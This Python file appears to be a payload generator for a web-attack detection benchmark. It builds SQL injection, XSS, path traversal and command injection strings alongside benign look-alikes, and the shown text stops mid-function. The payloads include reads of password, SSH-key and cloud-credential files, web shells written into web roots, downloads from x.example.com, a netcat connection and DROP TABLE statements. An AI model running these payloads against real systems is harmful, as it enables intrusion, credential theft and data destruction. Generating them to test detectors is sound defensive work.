#!/usr/bin/env python3
"""Generate web attack payloads by family, and benign look-alikes, for `make bench-detection`.

Each family is a small grammar (a few building blocks combined at random) rather than a list of
known strings, so the detectors are measured on the shape of an attack class: file inclusion by
absolute path, stream wrappers and exotic dot-dot-slash encodings; command injection without the
classic separators, Windows commands, parameter expansions, process functions of scripting
languages and web shells written by redirection; SQL injection without a quote to close, column
probes, the boundaries tools put around a payload, Unicode quote look-alikes, stacked statements
and DDL; XSS without tags (string concatenation, bracket access, functions passed as values,
escaped identifiers), CSS vectors, conditional comments and XML namespaces. Every payload then
gets variation: letter case, blanks (space, tab, comments where the language has them), an
extra layer of percent-encoding, and nesting inside the quotes or parentheses of the context.

The benign families hold the hard cases: SQL and shell words in ordinary sentences, names and
places with apostrophes and accents, film titles, comparison signs in text.

Output, one payload a line: "class<TAB>family<TAB>payload", the payload percent-encoded once
(so tabs, newlines and non-ASCII bytes survive); class is SQLi, XSS, traversal, cmdi or benign.
bench/detection_eval.c (--families FILE) puts each payload into request URLs in three
encodings, as it does for the shared data set. Deterministic for a given --seed.
"""
import argparse
import random
import urllib.parse

# ---- variation ------------------------------------------------------------------------------


def rcase(rng, s):
    """Random letter case of a whole word set: lower, upper, title or mixed."""
    k = rng.randrange(4)
    if k == 0:
        return s.lower()
    if k == 1:
        return s.upper()
    if k == 2:
        return s
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in s)


def sql_blank(rng):
    return rng.choice([" ", " ", " ", "  ", "\t", "/**/", "\n", "/*x*/", "+"])


def sql_join(rng, words):
    b = sql_blank(rng)
    return b.join(words)


def sql_kw(rng, s):
    return rcase(rng, s) if rng.random() < 0.5 else s


def pct_some(rng, s, chars):
    """Percent-encode some of the given characters (an extra layer the server decodes)."""
    return "".join("%%%02X" % ord(c) if c in chars and rng.random() < 0.5 else c for c in s)


# ---- traversal and file inclusion -------------------------------------------------------------

# Files and folders of Unix systems that file inclusion goes after (see the detector's list).
UNIX_FILES = [
    "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/issue", "/etc/motd",
    "/etc/crontab", "/etc/resolv.conf", "/etc/hostname", "/etc/fstab", "/etc/sudoers",
    "/etc/ssh/sshd_config", "/etc/mysql/my.cnf", "/etc/my.cnf", "/etc/nginx/nginx.conf",
    "/etc/nginx/sites-enabled/default", "/etc/apache2/apache2.conf", "/etc/httpd/conf/httpd.conf",
    "/etc/php/7.4/apache2/php.ini", "/etc/php.ini", "/usr/local/etc/php/php.ini",
    "/proc/self/environ", "/proc/self/cmdline", "/proc/self/status", "/proc/self/fd/2",
    "/proc/version", "/proc/1/maps", "/proc/net/tcp", "/proc/cpuinfo", "/proc/mounts",
    "/var/log/apache2/access.log", "/var/log/nginx/error.log", "/var/log/auth.log",
    "/var/log/httpd/access_log", "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/root/.bash_history", "/root/.ssh/id_rsa", "/home/ubuntu/.ssh/authorized_keys",
    "/var/www/html/wp-config.php", "/var/www/html/.env", "/var/www/.htpasswd",
    "/usr/local/apache2/conf/httpd.conf", "/opt/tomcat/conf/tomcat-users.xml",
    "/var/lib/mysql/mysql/user.MYD", "/etc/security/passwd", "/etc/master.passwd",
    "/dev/stdin", "/var/mail/root",
]
WIN_FILES = [
    "C:\\Windows\\win.ini", "C:\\boot.ini", "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "C:\\inetpub\\wwwroot\\web.config", "C:\\Windows\\repair\\SAM",
    "C:\\Windows\\System32\\config\\SAM", "C:\\Windows\\Panther\\Unattend.xml",
    "C:\\Windows\\system.ini", "C:\\xampp\\apache\\conf\\httpd.conf", "C:\\xampp\\php\\php.ini",
    "C:\\Program Files\\MySQL\\my.ini", "C:\\Windows\\debug\\NetSetup.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex220101.log", "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
    "C:\\Users\\Administrator\\NTUser.dat", "C:\\WINNT\\win.ini", "D:\\Windows\\win.ini",
    "%SYSTEMROOT%\\win.ini", "%WINDIR%\\system32\\drivers\\etc\\hosts",
]


def fam_abs_unix(rng):
    p = rng.choice(UNIX_FILES)
    k = rng.randrange(8)
    if k == 1:
        p = p.replace("/", "//")
    elif k == 2:
        p = p + "%00"
    elif k == 3:
        p = p + "\x00.jpg"
    elif k == 4:
        p = "/." + p
    elif k == 5:
        p = p.replace("/", "/./", 1)
    elif k == 6:
        p = pct_some(rng, p, "/.")
    elif k == 7:
        p = "file://" + p
    return p


def fam_abs_windows(rng):
    p = rng.choice(WIN_FILES)
    k = rng.randrange(6)
    if k == 1:
        p = p.replace("\\", "/")
    elif k == 2:
        p = rcase(rng, p)
    elif k == 3:
        p = p.replace("\\", "\\\\")
    elif k == 4:
        p = "file:///" + p.replace("\\", "/")
    elif k == 5:
        p = p + "%00"
    return p


def fam_wrapper(rng):
    target = rng.choice(["index.php", "config.php", "/etc/passwd", "../config.inc.php",
                         "admin.php", "db.php", "../../app/etc/local.xml"])
    k = rng.randrange(10)
    if k == 0:
        filt = rng.choice(["convert.base64-encode", "string.rot13", "convert.iconv.utf-8.utf-16le",
                           "read=convert.base64-encode", "zlib.deflate"])
        p = "php://filter/%s/resource=%s" % (filt, target)
    elif k == 1:
        p = "php://input"
    elif k == 2:
        p = "data://text/plain;base64," + rng.choice(["PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
                                                     "PD9waHAgcGhwaW5mbygpOyA/Pg=="])
    elif k == 3:
        p = "data:text/plain,<?php system('id'); ?>"
    elif k == 4:
        p = "expect://" + rng.choice(["id", "ls", "whoami"])
    elif k == 5:
        p = "zip://" + rng.choice(["shell.jpg", "/tmp/upload.zip", "uploads/a.zip"]) + "%23shell.php"
    elif k == 6:
        p = "phar://" + rng.choice(["./uploads/x.phar", "/tmp/a.phar/test.txt", "avatar.jpg/s"])
    elif k == 7:
        p = "compress.zlib://" + target
    elif k == 8:
        p = "php://fd/" + str(rng.randrange(3, 12))
    else:
        p = "glob://" + rng.choice(["/var/www/*", "*.php", "/etc/*"])
    if rng.random() < 0.3:
        p = rcase(rng, p[:3]) + p[3:]
    return p


def fam_dotdot_exotic(rng):
    dot, slash = rng.choice([
        ("%u002e", "%u2215"), ("%u002e", "%u002f"), ("%uff0e", "%u2215"), ("%c0%ae", "%c0%af"),
        ("%e0%80%ae", "%e0%80%af"), ("%c0%2e", "%c0%2f"), (".", "%c0%af"), (".", "%c1%9c"),
        ("%25c0%25ae", "%25c0%25af"), ("%252e", "%252f"), (".", "%25%35%63"), ("%uff0e", "%uff0f"),
        ("%f0%80%80%ae", "%f0%80%80%af"), (".", "%u005c"), ("0x2e", "0x2f"), ("%c0%ae", "/"),
    ])
    n = rng.randrange(2, 8)
    up = (dot + dot + slash) * n
    tail = rng.choice(["etc/passwd", "windows/win.ini", "boot.ini", "etc/shadow", "WEB-INF/web.xml",
                       "proc/self/environ", "etc/hosts", "index.php"])
    return up + tail


# ---- command injection -----------------------------------------------------------------------


def fam_cmd_nosep(rng):
    cmd = rng.choice(["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "sleep 5",
                      "ping -c 3 127.0.0.1", "hostname", "nslookup x.example.com", "curl x.example.com"])
    k = rng.randrange(7)
    if k == 0:
        p = "$(" + cmd + ")"
    elif k == 1:
        p = "`" + cmd + "`"
    elif k == 2 and " " in cmd:
        p = "{" + cmd.replace(" ", ",") + "}"
    elif k == 2:
        p = "$(" + cmd + ")"
    elif k == 3:
        p = "$(" + cmd.replace(" ", "${IFS}") + ")"
    elif k == 4:
        p = rng.choice(["x", "1", "a.txt", "127.0.0.1"]) + "$(" + cmd + ")"
    elif k == 5:
        p = rng.choice(["'", '"', ""]) + "`" + cmd + "`" + rng.choice(["'", '"', ""])
    else:
        p = "<(" + cmd + ")"
    return p


WIN_CMDS = ["dir c:\\", "dir C:\\Users", "type C:\\Windows\\win.ini", "net user", "net localgroup administrators",
            "ipconfig /all", "whoami /priv", "systeminfo", "tasklist /v", "ver", "set",
            "powershell -c Get-Process", "powershell -nop -w hidden -enc SQBFAFgA",
            "certutil -urlcache -split -f http://x.example.com/a.exe a.exe",
            "bitsadmin /transfer j http://x.example.com/a.exe C:\\a.exe",
            "wmic os get caption", "reg query HKLM\\Software", "timeout /t 5",
            "ping -n 5 127.0.0.1", "cmd /c whoami", "cmd.exe /c dir", "net view",
            "findstr /si password *.xml", "schtasks /query", "netsh firewall show state",
            "type %WINDIR%\\win.ini", "echo %USERNAME%", "copy con x.txt"]


def fam_cmd_windows(rng):
    cmd = rng.choice(WIN_CMDS)
    if rng.random() < 0.4:
        cmd = rcase(rng, cmd.split(" ")[0]) + cmd[len(cmd.split(" ")[0]):]
    sep = rng.choice(["&", "&&", "|", "||", "%0a", "\r\n", "& ", " & ", "| ", "\n"])
    pre = rng.choice(["", "127.0.0.1", "x", "a.txt", "1", "'", '"'])
    return pre + sep + cmd + rng.choice(["", "", "&", " &rem ", " ::"])


def fam_cmd_newline(rng):
    cmd = rng.choice(["/bin/cat /etc/passwd", "/usr/bin/id", "/bin/ls -la /", "/usr/bin/whoami",
                      "/bin/sh -c id", "/usr/bin/curl http://x.example.com/", "/bin/busybox nc 10.0.0.1 4444",
                      "id", "whoami", "uname -a", "ls", "cat /etc/passwd", "sleep 10",
                      "/usr/bin/wget http://x.example.com/s -O /tmp/s"])
    nl = rng.choice(["\n", "\r\n", "\r", "%0a", "%0d%0a", "%0A"])
    pre = rng.choice(["", "x", "1", "127.0.0.1", "name", "a b"])
    return pre + nl + cmd + rng.choice(["", "\n", "%0a", "#"])


def fam_cmd_expansion(rng):
    k = rng.randrange(10)
    if k == 0:
        return ";cat${IFS}/etc/passwd"
    if k == 1:
        return rng.choice([";", "|", "&&", "\n"]) + "cat$IFS$9" + rng.choice(["/etc/passwd", "/etc/hosts"])
    if k == 2:
        return "${PATH:0:1}etc${PATH:0:1}passwd"
    if k == 3:
        return rng.choice([";", "|"]) + "c${u}at /e${u}tc/pa${u}sswd"
    if k == 4:
        return rng.choice([";", "|", "&&"]) + rng.choice(["w'h'o'am'i", 'w"h"oami', "wh\\oami", "c''at /etc/passwd"])
    if k == 5:
        return rng.choice([";", "|"]) + rng.choice(["/???/c?t /???/p?ss??", "/?in/ca? /e??/pass*", "/bin/c[a]t /etc/pas[s]wd"])
    if k == 6:
        return "${IFS}" + rng.choice(["id", "whoami", "uname${IFS}-a"])
    if k == 7:
        return rng.choice([";", "|", "`"]) + "$(printf '\\x69\\x64')"
    if k == 8:
        return rng.choice([";", "|"]) + "{cat,/etc/passwd}"
    return "a;${HOME:0:1}bin${HOME:0:1}id"


def fam_cmd_script(rng):
    arg = rng.choice(["'id'", '"whoami"', "'cat /etc/passwd'", "$_GET['c']", "$_REQUEST[cmd]",
                      "'ls -la'", "\"uname -a\""])
    k = rng.randrange(12)
    fn = rng.choice(["system", "exec", "passthru", "shell_exec", "popen", "proc_open",
                     "pcntl_exec", "assert"])
    if k == 0:
        return "%s(%s);" % (fn, arg)
    if k == 1:
        return "<?php %s(%s); ?>" % (fn, arg)
    if k == 2:
        return "${@%s(%s)}" % (fn, arg)
    if k == 3:
        return "__import__('os').system(%s)" % arg
    if k == 4:
        return "__import__('os').popen(%s).read()" % arg
    if k == 5:
        return "require('child_process').exec(%s)" % arg
    if k == 6:
        return "java.lang.Runtime.getRuntime().exec(%s)" % arg
    if k == 7:
        return "${T(java.lang.Runtime).getRuntime().exec(%s)}" % arg
    if k == 8:
        return "os.system(%s)" % arg
    if k == 9:
        return "subprocess.check_output(%s,shell=True)" % arg
    if k == 10:
        return "%s%s(%s)" % (rng.choice([";", "';", '";', "|"]), fn, arg)
    return "Process.Start(%s)" % arg


def fam_cmd_webshell(rng):
    body = rng.choice(["<?php system($_GET['c']); ?>", "<?=`$_GET[x]`?>", "<?php eval($_POST[1]);?>",
                       "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"])
    path = rng.choice(["/var/www/html/s.php", "shell.php", "/tmp/x.php", "../uploads/a.php",
                       "/usr/share/nginx/html/c.jsp"])
    k = rng.randrange(5)
    sep = rng.choice([";", "|", "&&", "\n", ""])
    if k == 0:
        return "%secho '%s' > %s" % (sep, body, path)
    if k == 1:
        return "%secho %s | base64 -d > %s" % (sep, "PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+", path)
    if k == 2:
        return "%swget http://x.example.com/s.txt -O %s" % (sep, path)
    if k == 3:
        return "%scurl -o %s http://x.example.com/s.txt" % (sep, path)
    return "%sprintf '%s' >> %s" % (sep, body, path)


# ---- SQL injection ---------------------------------------------------------------------------


def num(rng):
    return str(rng.randrange(1, 9999))


def fam_sql_bare(rng):
    a = num(rng)
    cond = rng.choice(["%s=%s" % (a, a), "%s>%s" % (int(a) + 1, a), "%s<>%s" % (a, int(a) + 1),
                       "ascii(substring(user(),1,1))>64", "length(database())>1",
                       "(select count(*) from users)>0", "1", "true", "%s between 1 and %s" % (a, int(a) + 5),
                       "'a'='a'", "%s like %s" % (a, a), "not false", "exists(select 1)",
                       "substr(version(),1,1)=5", "%s in (%s)" % (a, a), "2>1"])
    logic = sql_kw(rng, rng.choice(["and", "or", "&&", "||", "xor", "AND", "OR"]))
    pre = rng.choice(["1", num(rng), "-1", "0", "1)", "1))", "x", ""])
    tail = rng.choice(["", "", "--", "-- -", "#", "/*", ";--", " and (1=1", ")"])
    return sql_join(rng, [pre, logic, cond]) + tail


def fam_sql_having(rng):
    k = rng.randrange(5)
    pre = rng.choice(["1", "'", "1'", "x'", "1)", "\"", ""])
    if k == 0:
        s = sql_join(rng, [pre, sql_kw(rng, "having"), "1=1"])
    elif k == 1:
        s = sql_join(rng, [pre, sql_kw(rng, "group by"), rng.choice(["id", "users.id", "1"]),
                           sql_kw(rng, "having"), "1=1"])
    elif k == 2:
        s = sql_join(rng, [pre, sql_kw(rng, "having"), "count(*)>0"])
    elif k == 3:
        s = sql_join(rng, [pre, sql_kw(rng, "group by"), ",".join(str(i) for i in range(1, rng.randrange(2, 9)))])
    else:
        s = sql_join(rng, [pre, sql_kw(rng, "and"), "1=1", sql_kw(rng, "having"), "1"])
    return s + rng.choice(["--", "#", "-- -", "", "/*"])


def fam_sql_columns(rng):
    pre = rng.choice(["1", "-1", "'", "1'", "\"", "')", "1)", "x", "999999"])
    n = rng.randrange(1, 20)
    k = rng.randrange(4)
    if k == 0:
        s = sql_join(rng, [pre, sql_kw(rng, "order by"), str(n)])
    elif k == 1:
        s = sql_join(rng, [pre, sql_kw(rng, "union"), sql_kw(rng, "select"), ",".join(["null"] * n)])
    elif k == 2:
        s = sql_join(rng, [pre, sql_kw(rng, "union all select"), ",".join(str(i) for i in range(1, n + 1))])
    else:
        s = sql_join(rng, [pre, sql_kw(rng, "group by"), str(n)])
    return s + rng.choice(["--", "#", "-- -", "", "/*", "%00", ";"])


def fam_sql_boundary(rng):
    a = num(rng)
    core = rng.choice(["%s=%s" % (a, a), "%s=(select %s from pg_sleep(5))" % (a, a),
                       "sleep(5)", "(select (case when (%s=%s) then 1 else 0 end))" % (a, a),
                       "extractvalue(1,concat(0x7e,version()))", "%s=%s" % (a, int(a) + 1)])
    b = rng.randrange(9)
    if b == 0:
        return "1) AND %s AND (%s=%s" % (core, a, a)
    if b == 1:
        return "1`) AND %s-- -" % core
    if b == 2:
        return "`,%s" % core if rng.random() < 0.5 else "` AND %s-- " % core
    if b == 3:
        return "1*%s" % rng.choice(["(select 1)", "if(1=1,1,0)", "sleep(5)"])
    if b == 4:
        return "-%s OR %s" % (a, core)
    if b == 5:
        return "(%s)" % rng.choice(["select 1", "select sleep(5)", "select @@version", "%s" % core])
    if b == 6:
        return "%s%s" % (rng.choice(["1-", "1+", "0^", "1|", "2/"]), rng.choice(["(select 1)", "sleep(5)", "if(1=1,1,0)", "(case when 1=1 then 1 end)"]))
    if b == 7:
        return "1)) OR %s-- " % core
    return "%s RLIKE (SELECT (CASE WHEN (%s=%s) THEN 1 ELSE 0x28 END))" % (a, a, a)


QUOTES = ["\u2019", "\u2018", "\u02bc", "\uff07", "\u2032", "\u00b4", "\u201b"]


def fam_sql_unicode_quote(rng):
    q = rng.choice(QUOTES)
    body = rng.choice(["%s OR %s1%s=%s1", "admin%s--", "%s OR 1=1--", "x%s AND 1=1-- ",
                       "1%s UNION SELECT NULL--", "%s OR %sa%s=%sa", "%s; DROP TABLE users--"])
    return body.replace("%s", q)


def fam_sql_stacked(rng):
    pre = rng.choice(["1", "'", "1'", "\"", "')", "1)", "x", ""])
    stmt = rng.choice([
        "drop table users", "drop database shop", "create table x(a varchar(100))",
        "alter table users add admin int", "truncate table logs", "insert into users values(1,'a','b')",
        "update users set password='x' where 1=1", "delete from users", "shutdown",
        "exec xp_cmdshell 'dir'", "exec master..xp_cmdshell 'ping 10.0.0.1'",
        "declare @q varchar(99) set @q='x'", "waitfor delay '0:0:5'", "select pg_sleep(5)",
        "copy (select '') to program 'id'", "create user x identified by 'y'",
        "grant all privileges on *.* to 'x'@'%'", "rename table users to u2",
        "drop table if exists users", "create or replace function f() returns int",
        "select sleep(5)", "set @a=1", "call sys.exec('id')",
    ])
    return sql_join(rng, [pre + ";", sql_kw(rng, stmt)]) + rng.choice(["--", "#", "", ";", "-- -"])


# ---- XSS -------------------------------------------------------------------------------------

FUNCS = ["alert", "confirm", "prompt", "print"]


def js_arg(rng):
    return rng.choice(["1", "document.cookie", "document.domain", "'xss'", "origin", "/x/"])


def fam_xss_concat(rng):
    f = rng.choice(FUNCS)
    cut = rng.randrange(1, len(f))
    parts = "'%s'+'%s'" % (f[:cut], f[cut:])
    obj = rng.choice(["top", "window", "self", "this", "parent", "frames", "globalThis"])
    k = rng.randrange(8)
    if k == 0:
        core = "%s[%s](%s)" % (obj, parts, js_arg(rng))
    elif k == 1:
        core = "%s['%s'](%s)" % (obj, f, js_arg(rng))
    elif k == 2:
        core = "%s[/%s/.source+/%s/.source](%s)" % (obj, f[:cut], f[cut:], js_arg(rng))
    elif k == 3:
        core = "[]['constructor']['constructor']('%s(1)')()" % f
    elif k == 4:
        core = "eval(%s+'(1)')" % parts
    elif k == 5:
        core = "%s(%s)" % (f, js_arg(rng))
    elif k == 6:
        core = "%s`1`" % f
    else:
        core = "%s[\"%s\"](%s)" % (obj, f, js_arg(rng))
    brk = rng.choice(["'-%s-'", "\"-%s-\"", "';%s//", "\";%s//", "'+%s+'", "\\';%s//",
                      "');%s//", "'}%s{'", "</script><script>%s</script>"[:0] + "'*%s*'"])
    return brk % core


def fam_xss_funcvalue(rng):
    f = rng.choice(FUNCS)
    core = rng.choice([
        "setTimeout(%s,0,1)" % f, "[1].map(%s)" % f, "[1].find(%s)" % f, "onerror=%s;throw 1" % f,
        "Reflect.apply(%s,0,[1])" % f, "valueOf=%s;window+''" % f, "location=name",
        "location='javascript:%s(1)'" % f, "Function('%s(1)')()" % f,
        "constructor.constructor('%s(1)')()" % f, "import('//x.example.com/a.js')",
        "setInterval(%s,99)" % f, "[document.cookie].forEach(%s)" % f,
        "Promise.resolve(1).then(%s)" % f, "new Function`%s\\x281\\x29`" % f,
        "toString=%s,window+''" % f, "addEventListener('load',%s)" % f,
    ])
    brk = rng.choice(["'-%s-'", "\";%s;//", "';%s;//", "'%%0a%s//", "\"}%s{\"", "javascript:%s"])
    return brk % core


def fam_xss_escaped(rng):
    f = rng.choice(FUNCS)
    i = rng.randrange(len(f))
    k = rng.randrange(7)
    if k == 0:
        name = f[:i] + "\\u%04x" % ord(f[i]) + f[i + 1:]
    elif k == 1:
        name = f[:i] + "\\u{%x}" % ord(f[i]) + f[i + 1:]
    elif k == 2:
        name = f
        return rng.choice(["';", "\";", ""]) + "eval('%s')" % "".join("\\x%02x" % ord(c) for c in f + "(1)")
    elif k == 3:
        return rng.choice(["';", "\";", "'-"]) + "eval(atob('%s'))" % rng.choice(["YWxlcnQoMSk=", "cHJvbXB0KDEp"]) + rng.choice(["//", "-'"])
    elif k == 4:
        return rng.choice(["';", "\";", "'-"]) + "eval(String.fromCharCode(%s))" % ",".join(str(ord(c)) for c in f + "(1)") + rng.choice(["//", "-'"])
    elif k == 5:
        return "<a href=\"&#x6a;avascript&colon;%s(1)\">x</a>" % f
    else:
        name = "".join("\\u%04x" % ord(c) for c in f)
    return rng.choice(["';", "\";", "'-", "javascript:"]) + name + "(1)" + rng.choice(["//", "-'", ""])


def fam_xss_css(rng):
    k = rng.randrange(9)
    js = "javascript:%s(1)" % rng.choice(FUNCS)
    if k == 0:
        return "<div style=\"background:url(%s)\">" % js
    if k == 1:
        return "<style>@import '%s';</style>" % rng.choice(["http://x.example.com/x.css", js])
    if k == 2:
        return "<div style=\"behavior:url(x.htc)\">"
    if k == 3:
        return "\" style=\"-moz-binding:url(http://x.example.com/x.xml#x)"
    if k == 4:
        return "x:expression(alert(1))"
    if k == 5:
        return "<link rel=stylesheet href=\"%s\">" % js
    if k == 6:
        return "</style><svg/onload=alert(1)>"
    if k == 7:
        return "<p style=\"width:expression(alert(document.cookie))\">"
    return "<style>body{background-image:url(\"%s\")}</style>" % js


def fam_xss_condcomment(rng):
    k = rng.randrange(4)
    if k == 0:
        return "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"
    if k == 1:
        return "<!--[if]><script>alert(1)</script -->"
    if k == 2:
        return "<![if ]><img src=x onerror=alert(1)><![endif]>"
    return "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">"


def fam_xss_xmlns(rng):
    k = rng.randrange(6)
    if k == 0:
        return "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"
    if k == 1:
        return "<html xmlns:xss><?import namespace=\"xss\" implementation=\"http://x.example.com/x.htc\"><xss:xss>x</xss:xss></html>"
    if k == 2:
        return "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
    if k == 3:
        return "<a xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"javascript:alert(1)\">x</a>"
    if k == 4:
        return "<?xml-stylesheet type=\"text/xsl\" href=\"javascript:alert(1)\"?>"
    return "<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"


# ---- benign hard cases -----------------------------------------------------------------------

SENTENCES = [
    "select the best option and drop me a line", "where is union station", "order by phone",
    "drop shipping or wholesale", "please select 1 or 2 items", "insert coin to play",
    "delete my account please", "update: the show is tonight", "between 5 and 10 guests",
    "1 or 2 bedrooms", "rock and roll or blues", "sleep 8 hours a night", "ping pong table",
    "kill bill vol 2", "echo dot 3rd gen", "cat and dog toys", "id card renewal",
    "type c charger", "dir en grey tour", "net user guide pdf", "find my iphone",
    "curl up with a book", "wget vs curl", "bash birthday party", "shell beach hotel",
    "python for beginners", "perl jam 2024", "exec summary template", "system of a down",
    "true or false questions", "is null or empty", "not null constraint meaning",
    "group by week", "having fun at the beach", "limit 2 per customer", "sort by price",
    "a < b and c > d", "5 > 3", "price<100", "age >= 18", "x = y + 1", "3 * 4 = 12",
    "100% cotton; machine wash", "Tom & Jerry", "salt & pepper", "AT&T | Verizon",
    "script for the school play", "alert level orange", "confirm my booking", "prompt delivery",
    "window cleaner / glass", "document shredder", "style guide 2024", "expression of interest",
    "import export business", "constructor of the year", "eval form for teachers",
    "the file /home folder explained", "C:\\ drive full", "etc. and so on", "and/or",
    "wait... what?", "version 2.0 (beta)", "user's manual", "admin panel tips",
]
NAMES = ["O'Brien", "O'Reilly", "D'Angelo", "Dell'Acqua", "N'Diaye", "d'Arcy", "L'Heureux",
         "Seán Ó Dónaill", "Zoë Saldaña", "José Muñoz", "François Hollande", "Björk Guðmundsdóttir",
         "Anne-Marie D'Souza", "Mary-Kate O'Connor", "Shaquille O'Neal", "Conan O'Brien"]
FILMS = ["Ocean's Eleven", "Don't Look Up", "Schindler's List", "Who's Afraid of Virginia Woolf?",
         "The Lord of the Rings: The Return of the King", "Alien³", "Se7en", "M*A*S*H",
         "Love & Other Drugs", "Kill Bill: Vol. 1", "2001: A Space Odyssey", "Face/Off",
         "What's Eating Gilbert Grape", "Tick, tick... BOOM!", "(500) Days of Summer",
         "Harry Potter and the Order of the Phoenix", "The Good, the Bad and the Ugly",
         "Crouching Tiger, Hidden Dragon", "Amélie", "Léon: The Professional", "WALL·E",
         "Mission: Impossible – Dead Reckoning", "Dr. Strangelove or: How I Learned to Stop Worrying",
         "One Flew Over the Cuckoo's Nest", "It's a Wonderful Life", "Singin' in the Rain",
         "Fast & Furious 6", "Run Lola Run", "Select Harvests", "Union Square", "The Exorcist",
         "Sleepless in Seattle", "Death Proof", "Ferris Bueller's Day Off", "Hachi: A Dog's Tale",
         "Who Framed Roger Rabbit", "Dude, Where's My Car?", "Catch Me If You Can",
         "Ready or Not", "Now You See Me", "Knives Out", "Whiplash", "The Shell Collector"]
CITIES = ["L'Aquila", "Val-d'Or", "Saint-Jean-d'Angély", "Coeur d'Alene", "'s-Hertogenbosch",
          "Hagåtña", "Bogotá", "N'Djamena", "Kraków", "Ho Chi Minh City", "Washington, D.C.",
          "Martha's Vineyard", "Saint-Étienne", "Köln", "São Paulo", "Zürich", "Reykjavík",
          "Dún Laoghaire", "Ōsaka", "Nuku'alofa", "Kailua-Kona", "Cassis", "Sète", "Orléans",
          "Bath", "Reading", "Nice", "Split", "Batman", "Normal", "Why"]
TAGS = ["#rock&roll", "c++", "node.js", "a/b testing", "r&d", "50% off", "2-for-1", "q&a",
        "tl;dr", "no:1 fan", "<3", ":)", "x86_64", "utf-8", "v1.2.3", "wi-fi", "--help",
        "c:\\temp", "~/Documents", "me@example.com", "+44 20 7946 0958", "10:30-12:00"]


def benign_hard(rng):
    k = rng.randrange(6)
    if k == 0:
        return "sentences", rng.choice(SENTENCES)
    if k == 1:
        return "names", rng.choice(NAMES) + rng.choice(["", "", " " + rng.choice(CITIES)])
    if k == 2:
        return "films", rng.choice(FILMS) + rng.choice(["", "", " (%d)" % rng.randrange(1950, 2025)])
    if k == 3:
        return "cities", rng.choice(CITIES) + rng.choice(["", ", " + rng.choice(CITIES)])
    if k == 4:
        return "tags", rng.choice(TAGS)
    # mixed: a sentence quoting a title or naming a person
    return "mixed", "%s %s %s" % (rng.choice(NAMES), rng.choice(["loves", "said", "vs", "and", "or", "<", ">"]),
                                 rng.choice(FILMS))


FAMILIES = [
    ("traversal", "abs-unix-file", fam_abs_unix),
    ("traversal", "abs-windows-file", fam_abs_windows),
    ("traversal", "stream-wrapper", fam_wrapper),
    ("traversal", "dotdot-exotic-encoding", fam_dotdot_exotic),
    ("cmdi", "substitution-no-separator", fam_cmd_nosep),
    ("cmdi", "windows-command", fam_cmd_windows),
    ("cmdi", "newline-command", fam_cmd_newline),
    ("cmdi", "parameter-expansion", fam_cmd_expansion),
    ("cmdi", "script-process-function", fam_cmd_script),
    ("cmdi", "web-shell-redirection", fam_cmd_webshell),
    ("SQLi", "bare-boolean", fam_sql_bare),
    ("SQLi", "having-group-by", fam_sql_having),
    ("SQLi", "column-probe", fam_sql_columns),
    ("SQLi", "tool-boundary", fam_sql_boundary),
    ("SQLi", "unicode-quote", fam_sql_unicode_quote),
    ("SQLi", "stacked-ddl", fam_sql_stacked),
    ("XSS", "js-concat-bracket", fam_xss_concat),
    ("XSS", "js-function-value", fam_xss_funcvalue),
    ("XSS", "js-escaped-identifier", fam_xss_escaped),
    ("XSS", "css-vector", fam_xss_css),
    ("XSS", "conditional-comment", fam_xss_condcomment),
    ("XSS", "xml-namespace", fam_xss_xmlns),
]


# ---- families read by grammar alone (a second list, drawn after the benign set so the payloads
# above stay the same for a given seed) ---------------------------------------------------------

DOTFILES = [".bash_history", ".bashrc", ".bash_profile", ".bash_logout", ".profile", ".zshrc",
            ".zsh_history", ".cshrc", ".login", ".logout", ".forward", ".netrc", ".rhosts",
            ".viminfo", ".mysql_history", ".psql_history", ".python_history", ".Xauthority",
            ".Xdefaults", ".xinitrc", ".git-credentials", ".pgpass", ".ssh/id_rsa",
            ".ssh/authorized_keys", ".aws/credentials", ".docker/config.json", ".kube/config"]


def fam_home_dotfile(rng):
    f = rng.choice(DOTFILES)
    home = rng.choice(["~/", "~/", "~root/", "~www-data/", "/", "/root/", "/home/%s/" % rng.choice(["ubuntu", "admin", "web"])])
    p = home + f
    k = rng.randrange(5)
    if k == 1:
        p = p + "%00"
    elif k == 2:
        p = pct_some(rng, p, "/.~")
    elif k == 3:
        p = p.replace("/", "//")
    return p


PROC_ENTRIES = ["softirqs", "ioports", "locks", "swaps", "devices", "diskstats", "loadavg",
                "uptime", "vmstat", "iomem", "kallsyms", "slabinfo", "zoneinfo", "buddyinfo",
                "self/maps", "self/cwd/index.php", "thread-self/environ", "1/cmdline", "net/arp"]
SERVER_DIRS = ["/logs", "/log", "/srv/%s/logs", "/usr/local/%s/logs", "/home/%s/conf", "/opt/%s/etc",
               "/data/%s", "/usr/local/%s/etc", "/var/tmp/%s"]
SERVERS = ["httpd", "nginx", "mariadb", "pgsql", "ftpd", "panel", "app", "mailer"]
SERVER_NAMES = ["access.log", "error_log", "transfer_log", "server.err", "main.conf", "site.conf",
                "settings.ini", "app.cfg", "users.pdb", "master.mdf", "accounts.myd", "client.cnf"]
DRIVE_TOPS = ["apache24", "mysql", "php", "postgresql", "appserv", "nginx", "tomcat9", "xampp", "wamp64",
              "Program Files\\MariaDB 10.6", "Program Files\\PostgreSQL\\15", "var\\lib\\pgsql", "etc\\nginx"]
DRIVE_SUBS = ["logs", "data", "conf", "bin", "etc"]


def server_path(rng):
    d = rng.choice(SERVER_DIRS)
    if "%s" in d:
        d = d % rng.choice(SERVERS)
    return d + "/" + rng.choice(SERVER_NAMES)


def drive_path(rng):
